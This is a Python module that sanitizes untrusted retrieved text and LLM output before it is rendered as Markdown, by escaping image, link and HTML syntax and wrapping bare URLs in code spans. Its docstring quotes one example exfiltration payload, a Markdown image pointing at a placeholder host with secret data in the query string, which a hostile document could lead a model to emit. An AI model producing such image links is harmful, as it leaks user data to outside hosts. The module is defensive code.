"""Untrusted text (retrieved passages, LLM output) made safe to render as Markdown.

A hostile document can carry ``![x](http://host/leak?d=secret)``: rendered, the browser
would fetch that URL and leak whatever the model put in it. We keep Markdown's emphasis,
lists and code, but escape the characters that build images, links and raw HTML, and put
bare URLs in code spans (GitHub-flavoured Markdown would turn them into live links), so
all of it shows as text and nothing is fetched.
"""

from __future__ import annotations

import re
from pathlib import PurePath

# characters that open images/links ([ ]), raw HTML (< >) or escapes (\)
_ESCAPE = re.compile(r"([\\\[\]<>])")
_HEADING = re.compile(r"(?m)^([ \t]{0,3})(#{1,6})(?=[ \t]|$)")
URL = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,15}://|www\.)[^\s<>\[\]()\"'`]+")


def neutralize_markdown(text: str) -> str:
    """Markdown that renders as the same words, with no live image, link or HTML."""
    parts: list[str] = []
    last = 0
    for match in URL.finditer(text):
        parts.append(_escape(text[last : match.start()]))
        parts.append(f"`{match.group(0)}`")
        last = match.end()
    parts.append(_escape(text[last:]))
    return "".join(parts)


def code_span_name(source: str) -> str:
    """The file name of ``source`` for a Markdown code span (which shows it as text): a
    backtick in the name would end the span early."""
    return PurePath(source).name.replace("`", "'")


def _escape(text: str) -> str:
    escaped = _ESCAPE.sub(r"\\\1", text)
    # a quoted document's "# Title" should read as text, not become a page heading
    escaped = _HEADING.sub(lambda m: m.group(1) + "\\" + m.group(2), escaped)
    # "!" before an escaped "[" can no longer start an image; escape it for good measure
    return escaped.replace("!\\[", "\\!\\[")
